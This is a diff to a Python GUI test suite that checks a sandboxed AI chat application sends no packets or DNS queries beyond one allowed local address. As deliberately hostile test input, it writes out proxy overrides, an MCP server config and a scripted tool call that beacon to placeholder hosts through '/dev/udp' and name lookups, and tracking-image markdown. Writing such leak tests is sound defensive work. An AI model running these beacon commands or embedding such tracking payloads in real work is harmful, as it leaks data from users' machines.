@@ -1,12 +1,17 @@
 # SPDX-License-Identifier: GPL-3.0-or-later
 """The sealed window: it makes no socket of a network, talks to its model all the same, and shows what left this machine."""
 
+import contextlib
+import json
 import os
 import pathlib
 import re
 import shutil
 import signal
+import socket
 import subprocess
+import tempfile
+import threading
 import time
 
 import chat
@@ -60,6 +65,68 @@ class WaylandTracedWindow(TracedWindow):
 
     def _photograph_failure(self):
         tap.note("stderr: " + self.stderr()[-2000:])
+
+
+class RoomWindow(EnclaveWindow):
+    """The window in a network namespace where every packet is counted, as `enclavectl airgap verify -- enclave` makes it."""
+
+    def __init__(self, *arguments, **more):
+        self.inner = None
+        super().__init__("--json", "airgap", "verify", "--", os.environ["ENCLAVE_PROGRAM"], *arguments,
+                         program=os.environ["ENCLAVE_CTL"], **more)
+
+    def _find_application(self):
+        for stat in pathlib.Path("/proc").glob("[0-9]*/stat"):
+            try:
+                name, rest = stat.read_text().split("(", 1)[1].rsplit(")", 1)
+                if name == "enclave" and descends(int(rest.split()[1]), self.process.pid):
+                    return self.desktop.accessibility().find_application(int(stat.parent.name))
+            except OSError:
+                pass
+        return None
+
+    def report(self):
+        return json.loads(self.stdout().splitlines()[-1])
+
+
+def descends(process, ancestor):
+    while process > 1 and process != ancestor:
+        process = int(pathlib.Path(f"/proc/{process}/stat").read_text().rsplit(")", 1)[1].split()[1])
+    return process == ancestor
+
+
+@contextlib.contextmanager
+def socket_to(port):
+    """A socket of the file system that leads to a port: into the room nothing else does."""
+    folder = tempfile.mkdtemp(prefix="enclave-way-")
+    listener = socket.socket(socket.AF_UNIX)
+    listener.bind(f"{folder}/model")
+    listener.listen()
+
+    def pass_on(source, target):
+        try:
+            while data := source.recv(65536):
+                target.sendall(data)
+            target.shutdown(socket.SHUT_WR)
+        except OSError:
+            pass
+
+    def serve():
+        while True:
+            try:
+                taken, _ = listener.accept()
+            except OSError:
+                return
+            other = socket.create_connection(("127.0.0.1", port))
+            for pair in ((taken, other), (other, taken)):
+                threading.Thread(target=pass_on, args=pair, daemon=True).start()
+
+    threading.Thread(target=serve, daemon=True).start()
+    try:
+        yield f"{folder}/model"
+    finally:
+        listener.close()
+        shutil.rmtree(folder, ignore_errors=True)
 
 
 def converse(window):
@@ -167,6 +234,41 @@ def page():
         tap.check(any(record["endpoint"] == f"http://127.0.0.1:{server.port}" and record["mode"] == "sealed" for record in opened),
                   f"the server is not in the ledger: {records}")
         tap.check(all(record["local"] for record in opened), f"another machine was reached: {opened}")
+
+
+HOSTILE = {"http_proxy": "http://192.0.2.99:3128", "https_proxy": "http://192.0.2.99:3128", "all_proxy": "socks://192.0.2.99:1080",
+           "GIO_USE_PROXY_RESOLVER": "gnome", "GIO_USE_NETWORK_MONITOR": "netlink"}
+PHONING = '{"mcpServers": {"phone": {"command": "bash", "args": ["-c", "echo x >/dev/udp/192.0.2.5/53; getent hosts phone.example"]}}}'
+
+
+@case("a conversation where every packet is counted, with hostile settings: none for another address, no name asked for")
+def room():
+    if subprocess.run([os.environ["ENCLAVE_CTL"], "airgap", "verify", "--", "true"], check=False, capture_output=True).returncode != 0:
+        raise tap.Skip("no namespaces can be made here")
+    images = "Said. ![a](http://192.0.2.66/a.png) <img src='https://tracker.example/b.png'> [c](https://example.com/)"
+    replies = [calls("run_command", command="echo x >/dev/udp/192.0.2.1/53; getent hosts agent.example; true"),
+               calls("edit_file", path="README.md", old_text="# Ringlog", new_text="# Ring"), says(images)]
+    with ScriptedServer(replies) as server, socket_to(server.port) as path, project(_dot_mcp_dot_json=PHONING) as folder, \
+            RoomWindow(folder, settings={"servers": f"['unix:{path}', 'http://example.com:80', 'http://192.0.2.1:11434', "
+                                                    "'http://127.0.0.1.nip.io:11434']", "allowed-networks": "['192.0.2.0/24']"},
+                       environment=HOSTILE, size=(1280, 800)) as window:
+        window.find(role="label", name="test-model", timeout=60)
+        chat.say(window, "Say something")
+        chat.wait_question(window, "Runs in")
+        chat.answer(window, "Allow")
+        chat.wait_words(window, "Said.", timeout=60)
+        window.key("ctrl+q")
+        window.wait_for(lambda: window.stdout().strip(), timeout=60, what="the report")
+        counted = window.report()["counted"]
+        left = [one for one in counted["destinations"] if not (one["address"] == "192.0.2.1" and one["port"] == 11434)]
+        tap.equal(left, [], "what was sent")
+        tap.equal(counted["dns_queries"], 0, "questions to name servers")
+        # The one address of those that the settings allow was tried, and is in the ledger; the names were not looked up.
+        records = ledger.connections(window.home / "state/enclave/egress/audit.jsonl")
+        asked = {(record["endpoint"], record["event"]) for record in records}
+        tap.check(("http://192.0.2.1:11434", "failed") in asked, f"the allowed address is not in the ledger: {asked}")
+        tap.check(any("example.com" in endpoint and event == "refused" for endpoint, event in asked), f"the name is not: {asked}")
+        tap.check(any("nip.io" in endpoint and event == "refused" for endpoint, event in asked), f"the rebinding name is not: {asked}")
 
 
 @case("helpers that die: the one that connects comes back, the other is told of")
